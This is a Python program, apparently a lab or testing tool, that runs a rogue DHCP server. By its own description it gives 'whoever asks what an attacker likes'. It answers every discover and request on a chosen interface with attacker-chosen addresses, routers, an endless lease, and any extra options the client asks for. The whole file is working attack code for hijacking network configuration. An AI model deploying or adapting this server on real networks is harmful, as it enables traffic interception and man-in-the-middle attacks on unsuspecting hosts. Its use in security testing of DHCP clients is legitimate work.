"""A DHCP server that gives whoever asks what an attacker likes; run as a program: INTERFACE OFFER [SERVER].

OFFER is JSON: `address`, and of `mask`, `routers` (a list) and `lease` (seconds) what the offer shall hold; `asked`
holds further options, each for a client that asks for it.
"""

import json
import os
import socket
import struct
import sys
from collections.abc import Iterator
from typing import TypedDict

DISCOVER, OFFERED, REQUESTED, ACKNOWLEDGED = 1, 2, 3, 5
FOR_EVER = 4294967295
_COOKIE = bytes.fromhex("63825363")
_FIXED = struct.Struct("!BBBBIHH4s4s4s4s16s64s128s")
_MASK, _ROUTERS, _LEASE, _KIND, _SERVER, _WANTED, _END, _PAD = 1, 3, 51, 53, 54, 55, 255, 0


class _Always(TypedDict):
    address: str


class Offer(_Always, total=False):
    """What a client is told; an option that is absent is not sent."""

    mask: str
    routers: list[str]
    lease: int
    asked: dict[str, str]
    """Number to value (hexadecimal): as providers' servers do, told only to a client that asks (option 55)."""


def answer(request: bytes, offer: Offer, server: str) -> bytes | None:
    """The reply to a DHCP message (RFC 2131); None to what wants none."""
    told = dict(options(request))
    kind = told.get(_KIND, b"\0")[0]
    if kind not in {DISCOVER, REQUESTED}:
        return None
    _, hardware, length, _, xid, seconds, flags, client, _, _, relay, ethernet, _, _ = _FIXED.unpack_from(request)
    given = socket.inet_aton(offer["address"])
    head = _FIXED.pack(2, hardware, length, 0, xid, seconds, flags, client, given, bytes(4), relay, ethernet, b"", b"")
    said = {
        _KIND: bytes([OFFERED if kind == DISCOVER else ACKNOWLEDGED]),
        _SERVER: socket.inet_aton(server),
        _LEASE: struct.pack("!I", offer.get("lease", FOR_EVER)),
        _MASK: socket.inet_aton(offer["mask"]) if "mask" in offer else b"",
        _ROUTERS: b"".join(map(socket.inet_aton, offer.get("routers", []))),
    }
    said |= {
        int(code): bytes.fromhex(value)
        for code, value in offer.get("asked", {}).items()
        if int(code) in told.get(_WANTED, b"")
    }
    body = b"".join(bytes([code, len(value)]) + value for code, value in said.items() if value)
    return head + _COOKIE + body + bytes([_END])


def options(packet: bytes) -> Iterator[tuple[int, bytes]]:
    """The options of a DHCP message."""
    at = _FIXED.size + len(_COOKIE)
    while at < len(packet) and packet[at] != _END:
        if packet[at] == _PAD:
            at += 1
            continue
        length = packet[at + 1]
        yield packet[at], packet[at + 2 : at + 2 + length]
        at += 2 + length


def main() -> None:
    interface, offer = sys.argv[1], json.loads(sys.argv[2])
    server = sys.argv[3] if len(sys.argv) > 3 else "192.0.2.67"
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as channel:
        channel.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        channel.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        channel.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, interface.encode())
        channel.bind(("", 67))
        os.write(1, b"ready\n")
        while True:
            if reply := answer(channel.recv(2048), offer, server):
                channel.sendto(reply, ("255.255.255.255", 68))


if __name__ == "__main__":
    main()
